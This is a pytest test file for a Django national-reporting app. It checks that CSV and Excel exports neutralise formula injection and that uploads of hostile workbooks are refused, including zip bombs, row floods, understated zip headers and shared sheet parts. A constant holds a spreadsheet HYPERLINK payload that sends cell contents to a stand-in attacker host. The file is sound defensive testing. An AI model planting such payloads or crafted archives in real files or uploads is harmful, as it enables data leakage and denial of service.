"""National reports in spreadsheets: the CSV downloads and the Excel workbook keep typed text
from becoming a formula, the workbook comes back exactly as it went out, and a hostile
workbook is refused, quickly and with nothing changed."""

import csv
import io
import re
import struct
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from smallarms.reporting import workbook
from smallarms.reporting.models import Answer, Question
from smallarms.reporting.services import reports as services
from smallarms.states.models import State

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'


def answer(report, user, code, value, restricted=False):
    question = Question.objects.get(template=report.template, code=code)
    current = Answer.objects.filter(report=report, question=question).first()
    return services.save_answer(
        acting_user=user,
        report=report,
        question=question,
        raw=value,
        base_revision=current.revision if current else 0,
        language="en",
        restricted=restricted,
    )


def values(report):
    return dict(report.answers.values_list("question__code", "value"))


@pytest.fixture
def published(draft, reporting_officer_kenya, secretariat):
    answer(draft, reporting_officer_kenya, "NC-1", "yes")
    answer(draft, reporting_officer_kenya, "NC-2", FORMULA)
    services.submit_report(acting_user=reporting_officer_kenya, report=draft)
    return services.publish_report(acting_user=secretariat, report=draft)


# CSV ---------------------------------------------------------------------------------------


def test_an_answer_typed_as_a_formula_is_text_in_the_reports_csv_and_exact_in_its_json(
    client, published
):
    url = reverse("reporting:report_download", kwargs={"pk": published.pk, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["question"] == "NC-2")
    assert (row["answer"], row["value"]) == ("'" + FORMULA, "'" + FORMULA)
    url = reverse("reporting:report_download", kwargs={"pk": published.pk, "format": "json"})
    answers = {a["question"]: a["value"] for a in client.get(url).json()["answers"]}
    assert answers["NC-2"] == FORMULA


def test_an_answer_typed_as_a_formula_is_text_in_the_csv_of_one_question_across_states(
    client, published
):
    url = reverse("reporting:question_compare_export", kwargs={"code": "BMS90", "question": "NC-2"})
    (row,) = csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig")))
    assert row["answer"] == "'" + FORMULA


# The workbook out and back -----------------------------------------------------------------


def download(client, report) -> bytes:
    response = client.get(reverse("reporting:workbook_download", kwargs={"pk": report.pk}))
    assert response.status_code == 200
    return response.content


def upload(client, report, data: bytes):
    return client.post(
        reverse("reporting:workbook_upload", kwargs={"pk": report.pk}),
        {"workbook": SimpleUploadedFile("report.xlsx", data)},
        follow=True,
    )


def saved(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(sheet, code):
    return next(row for row in sheet.iter_rows(min_row=2) if row[0].value == code)


@pytest.fixture
def typed(draft, reporting_officer_kenya):
    """A draft whose answers a spreadsheet would take for formulas."""
    answer(draft, reporting_officer_kenya, "NC-1", "yes")
    answer(draft, reporting_officer_kenya, "NC-2", "=1+1")
    answer(draft, reporting_officer_kenya, "NC-3", {"name": "@Awa Ba", "telephone": "+221 33"})
    answer(draft, reporting_officer_kenya, "TR-1", "-12")
    answer(draft, reporting_officer_kenya, "TR-3", [{"area": FORMULA, "amount": "5"}])
    return draft


def test_the_workbook_writes_typed_formulas_as_text_cells(client, typed, reporting_officer_kenya):
    client.force_login(reporting_officer_kenya)
    book = openpyxl.load_workbook(io.BytesIO(download(client, typed)))
    cells = [
        row_of(book["general"], "NC-2")[2],
        row_of(book["general"], "NC-3.name")[2],
        row_of(book["iti"], "TR-1")[2],
        book["TR-3"]["A2"],
    ]
    assert [c.value for c in cells] == ["=1+1", "@Awa Ba", "-12", FORMULA]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert [c.quotePrefix for c in cells] == [True, True, False, True]


def test_a_workbook_comes_back_exactly_as_it_went_out(client, typed, reporting_officer_kenya):
    client.force_login(reporting_officer_kenya)
    before = values(typed)
    data = download(client, typed)
    page = upload(client, typed, data)
    assert "The workbook is imported: 0 answers changed." in page.text
    # Opened and saved again by a spreadsheet program (here openpyxl): still the same.
    page = upload(client, typed, saved(openpyxl.load_workbook(io.BytesIO(data))))
    assert "The workbook is imported: 0 answers changed." in page.text
    assert values(typed) == before
    assert before["NC-2"] == "=1+1" and before["TR-3"] == [{"area": FORMULA, "amount": "5"}]


def test_a_text_with_control_characters_still_downloads_as_a_workbook(
    client, draft, reporting_officer_kenya
):
    answer(draft, reporting_officer_kenya, "NC-2", "Commission\x0b nationale")
    client.force_login(reporting_officer_kenya)
    book = openpyxl.load_workbook(io.BytesIO(download(client, draft)))
    assert row_of(book["general"], "NC-2")[2].value == "Commission nationale"


# Formulas in the workbook brought back -------------------------------------------------------


def replace_cell(data: bytes, part: str, cell: str, xml: str) -> bytes:
    """The workbook with one cell of one worksheet part replaced by ``xml``."""
    sheet = member(data, part).decode()
    sheet, count = re.subn(rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)', xml, sheet, count=1)
    assert count == 1
    return with_member(data, part, sheet.encode())


def member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    """The zip with member ``name`` replaced (or added)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item))
        target.writestr(name, content)
    return out.getvalue()


def part_of(data: bytes, title: str) -> str:
    """The worksheet part of a sheet of a workbook openpyxl wrote (sheet1.xml, …)."""
    names = openpyxl.load_workbook(io.BytesIO(data), read_only=True).sheetnames
    return f"xl/worksheets/sheet{names.index(title) + 1}.xml"


@pytest.fixture
def answered(draft, reporting_officer_kenya):
    answer(draft, reporting_officer_kenya, "NC-1", "yes")
    answer(draft, reporting_officer_kenya, "NC-2", "National Focal Point")
    return draft


def test_a_formula_without_its_computed_value_is_refused_and_the_answer_is_kept(
    client, answered, reporting_officer_kenya
):
    client.force_login(reporting_officer_kenya)
    book = openpyxl.load_workbook(io.BytesIO(download(client, answered)))
    row_of(book["general"], "NC-2")[2].value = '=CONCAT("National ","Focal Point")'
    response = upload(client, answered, saved(book))  # openpyxl keeps no computed value
    assert response.status_code == 400
    assert response.context["errors"] == [
        "Sheet “general”, row 3, column C: the cell holds a formula. Type the value itself; to "
        "enter a text that begins with “=”, type an apostrophe (') before it."
    ]
    assert values(answered)["NC-2"] == "National Focal Point"


def test_a_formula_with_its_computed_value_or_an_error_value_is_refused_too(
    client, answered, reporting_officer_kenya
):
    client.force_login(reporting_officer_kenya)
    data = download(client, answered)
    general = part_of(data, "general")
    data = replace_cell(data, general, "C3", '<c r="C3" t="str"><f>B3</f><v>Mandate</v></c>')
    data = replace_cell(data, part_of(data, "iti"), "C2", '<c r="C2" t="e"><v>#DIV/0!</v></c>')
    errors = upload(client, answered, data).context["errors"]
    assert errors[0].startswith("Sheet “general”, row 3, column C: the cell holds a formula.")
    assert errors[1] == (
        "Sheet “iti”, row 2, column C: the cell shows an error (#DIV/0!). Type the value itself."
    )
    assert values(answered)["NC-2"] == "National Focal Point"


# Hostile workbooks ---------------------------------------------------------------------------


@pytest.fixture
def officer(client, reporting_officer_kenya):
    client.force_login(reporting_officer_kenya)
    return client


def test_a_workbook_that_inflates_past_the_limit_is_refused_before_it_is_parsed(
    officer, answered, settings, monkeypatch
):
    data = download(officer, answered)
    # A zip bomb's shape: one part of repeated bytes, a few kilobytes deflated.
    bomb = b" " * (settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES + 1)
    data = with_member(data, "xl/sharedStrings.xml", bomb)
    assert len(data) < 100_000

    def parse(*args, **kwargs):
        raise AssertionError("openpyxl was given the file")

    monkeypatch.setattr(workbook, "load_workbook", parse)
    monkeypatch.setattr(workbook, "ExcelReader", parse, raising=False)
    response = upload(officer, answered, data)
    assert response.status_code == 400
    assert "Once uncompressed, the workbook is larger than 10 MB." in response.content.decode()
    assert values(answered)["NC-2"] == "National Focal Point"


def test_a_sheet_of_more_than_the_row_limit_is_refused_at_the_limit(officer, answered):
    data = download(officer, answered)
    # Rows with nothing in the table's columns, as a program that formats whole rows writes.
    rows = "".join(
        f'<row r="{n}"><c r="D{n}" t="inlineStr"><is><t>x</t></is></c></row>'
        for n in range(1, 100_002)
    )
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:A100001"/><sheetData>{rows}</sheetData></worksheet>'
    )
    data = with_member(data, part_of(data, "TR-3"), sheet.encode())
    response = upload(officer, answered, data)
    assert response.status_code == 400
    assert "The sheet “TR-3” has more than 10,000 rows." in response.content.decode()
    assert not Answer.objects.filter(question__code="TR-3").exists()


def test_a_table_of_more_than_the_row_limit_is_refused(officer, answered):
    book = openpyxl.load_workbook(io.BytesIO(download(officer, answered)))
    for number in range(services.TABLE_MAX_ROWS + 1):
        book["TR-3"].append(["marking", number])
    response = upload(officer, answered, saved(book))
    assert (
        "Sheet “TR-3”, question TR-3: A table answer has at most 1,000 rows."
        in response.content.decode()
    )
    assert not Answer.objects.filter(question__code="TR-3").exists()


def test_every_bad_cell_of_a_table_row_is_listed(officer, answered):
    book = openpyxl.load_workbook(io.BytesIO(download(officer, answered)))
    book["TR-3"].append(["x" * (services.TABLE_CELL_MAX_CHARS + 1), "lots"])
    text = upload(officer, answered, saved(book)).content.decode()
    assert "Sheet “TR-3”, row 2, column A (Area): Keep each cell under 2,000 characters." in text
    assert "Sheet “TR-3”, row 2, column B (Amount): Enter a number." in text


def understated(data: bytes, name: str) -> bytes:
    """The zip with the size of ``name`` declared as 10 bytes, in both of its headers."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        struct.pack_into("<I", data, archive.getinfo(name).header_offset + 22, 10)
    start = 0
    while (start := data.find(b"PK\x01\x02", start + 1)) != -1:
        length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + length] == name.encode():
            struct.pack_into("<I", data, start + 24, 10)
    return bytes(data)


def test_a_part_larger_than_its_declared_size_is_refused(officer, answered):
    data = download(officer, answered)
    response = upload(officer, answered, understated(data, part_of(data, "general")))
    assert response.context["errors"] == ["The file is not an Excel workbook (.xlsx)."]
    assert values(answered)["NC-2"] == "National Focal Point"


def test_sheets_sharing_one_part_are_refused(officer, answered):
    data = download(officer, answered)
    index = member(data, "xl/workbook.xml").decode()
    index = index.replace("</sheets>", '<sheet name="again" sheetId="99" r:id="rId1"/></sheets>')
    response = upload(officer, answered, with_member(data, "xl/workbook.xml", index.encode()))
    assert "The file is not an Excel workbook (.xlsx)." in response.content.decode()


def test_a_file_larger_than_the_upload_limit_is_refused(officer, answered, settings):
    settings.WORKBOOK_MAX_BYTES = 1024 * 1024
    response = upload(officer, answered, b"PK" + b"\0" * settings.WORKBOOK_MAX_BYTES)
    assert response.status_code == 400
    assert "The file is larger than 1 MB." in response.content.decode()


def test_the_workbook_of_another_report_is_refused_before_its_sheets_are_read(
    officer, answered, report_cycle, npc_ghana, monkeypatch
):
    ghana = services.start_report(
        acting_user=npc_ghana, state=State.objects.get(iso3="GHA"), cycle=report_cycle,
        language="en",
    )  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(workbook.build(ghana)))
    row_of(book["general"], "NC-1")[2].value = "perhaps"

    def read_sheets(*args):
        raise AssertionError("the sheets were read")

    monkeypatch.setattr(workbook, "_read", read_sheets)
    response = upload(officer, answered, saved(book))
    assert response.context["errors"] == ["This workbook was made for another report."]


# The same limits at every door -----------------------------------------------------------------


def autosave(client, report, code, value):
    import json

    return client.post(
        reverse("reporting:answer_save", kwargs={"pk": report.pk, "code": code}),
        json.dumps({"value": value, "revision": 0}),
        content_type="application/json",
    )


def test_the_editor_refuses_a_table_of_more_than_the_row_limit(officer, draft):
    rows = [{"area": "marking", "amount": "1"}] * (services.TABLE_MAX_ROWS + 1)
    response = autosave(officer, draft, "TR-3", rows)
    assert response.status_code == 400
    assert response.json()["error"] == "A table answer has at most 1,000 rows."
    assert not Answer.objects.exists()


def test_the_editor_refuses_a_table_larger_than_the_size_limit(officer, draft):
    cell = "x" * services.TABLE_CELL_MAX_CHARS
    rows = [{"area": cell}] * (services.TABLE_MAX_CHARS // services.TABLE_CELL_MAX_CHARS + 1)
    response = autosave(officer, draft, "TR-3", rows)
    assert response.json()["error"] == "Keep the whole table under 200,000 characters."


def test_the_editor_refuses_an_overlong_contact_detail(officer, draft):
    response = autosave(officer, draft, "NC-3", {"name": "x" * 501})
    assert response.json()["error"] == "Keep each of the contact's details under 500 characters."


@pytest.mark.parametrize("number", ["1" * 21, "1e5000", "1e-5000", "9" * 5000])
def test_the_editor_refuses_a_number_of_too_many_digits(officer, draft, number):
    response = autosave(officer, draft, "TR-1", number)
    assert response.status_code == 400
    assert response.json()["error"] == "Enter a number of at most 20 digits."


def test_a_number_of_twenty_digits_is_kept(officer, draft):
    assert autosave(officer, draft, "TR-1", "-12345678901234567890").status_code == 200
    assert values(draft)["TR-1"] == "-12345678901234567890"


def test_the_section_form_reads_a_bad_row_count_as_no_rows(client, draft, verified_client):
    from smallarms.accounts.models import User

    officer = verified_client(User.objects.get(email="ro.kenya@example.org"))
    url = reverse("reporting:report_edit", kwargs={"pk": draft.pk})
    response = officer.post(url, {"section": "iti", "q-TR-3-rows": "many", "q-TR-1": "3"})
    assert response.status_code == 302
    assert values(draft) == {"TR-1": "3"}
